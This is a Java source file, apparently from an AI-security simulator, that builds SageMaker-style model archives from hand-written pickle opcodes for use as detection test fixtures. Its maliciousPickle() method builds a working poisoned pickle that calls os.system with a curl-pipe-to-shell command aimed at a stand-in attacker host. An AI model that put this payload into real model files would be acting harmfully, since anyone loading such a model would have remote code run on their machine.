package dev.aispm.simulator.aws;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import org.apache.commons.compress.archivers.tar.TarArchiveEntry;
import org.apache.commons.compress.archivers.tar.TarArchiveOutputStream;
import org.apache.commons.compress.compressors.gzip.GzipCompressorOutputStream;

/**
 * Builds the SageMaker-style model archives ({@code model.tar.gz}) the simulated S3 serves, from
 * pickle opcodes written out here, so that the repository carries no opaque binary and anyone can
 * read exactly what the malicious one does.
 */
public final class ModelArtifacts {
  private ModelArtifacts() {}

  /**
   * A protocol-2 pickle that, when loaded, imports {@code os.system} (GLOBAL opcode) and calls it
   * (REDUCE) with a shell command: the classic code-execution payload of a poisoned model.
   */
  public static byte[] maliciousPickle() {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.write(0x80);                        // PROTO
    out.write(2);
    writeAscii(out, "cos\nsystem\n");        // GLOBAL os.system
    byte[] cmd = "curl -s http://attacker.example/x | sh".getBytes(StandardCharsets.UTF_8);
    out.write('X');                          // BINUNICODE
    writeLe32(out, cmd.length);
    out.writeBytes(cmd);
    out.write(0x85);                         // TUPLE1
    out.write('R');                          // REDUCE
    out.write('.');                          // STOP
    return out.toByteArray();
  }

  /** A protocol-2 pickle of {@code {"layers": 3}}: only container and literal opcodes. */
  public static byte[] cleanPickle() {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.write(0x80);
    out.write(2);
    out.write('}');                          // EMPTY_DICT
    byte[] key = "layers".getBytes(StandardCharsets.UTF_8);
    out.write('X');
    writeLe32(out, key.length);
    out.writeBytes(key);
    out.write('K');                          // BININT1
    out.write(3);
    out.write('s');                          // SETITEM
    out.write('.');
    return out.toByteArray();
  }

  /** A gzip'd tar holding one file, as SageMaker training jobs write their output. */
  public static byte[] tarGz(String entryName, byte[] content) {
    return tarGz(java.util.Map.of(entryName, content));
  }

  /**
   * A gzip'd tar holding these files in the map's order, as a SageMaker model packaged with its
   * inference code ({@code model.pkl} beside {@code code/inference.py} and
   * {@code code/requirements.txt}).
   */
  public static byte[] tarGz(java.util.Map<String, byte[]> entries) {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (GzipCompressorOutputStream gz = new GzipCompressorOutputStream(bytes);
         TarArchiveOutputStream tar = new TarArchiveOutputStream(gz)) {
      for (java.util.Map.Entry<String, byte[]> e : entries.entrySet()) {
        TarArchiveEntry entry = new TarArchiveEntry(e.getKey());
        entry.setSize(e.getValue().length);
        entry.setModTime(1_704_067_200_000L);
        tar.putArchiveEntry(entry);
        tar.write(e.getValue());
        tar.closeArchiveEntry();
      }
      tar.finish();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return bytes.toByteArray();
  }

  private static void writeAscii(ByteArrayOutputStream out, String s) {
    out.writeBytes(s.getBytes(StandardCharsets.US_ASCII));
  }

  private static void writeLe32(ByteArrayOutputStream out, int v) {
    out.write(v & 0xff);
    out.write((v >>> 8) & 0xff);
    out.write((v >>> 16) & 0xff);
    out.write((v >>> 24) & 0xff);
  }
}
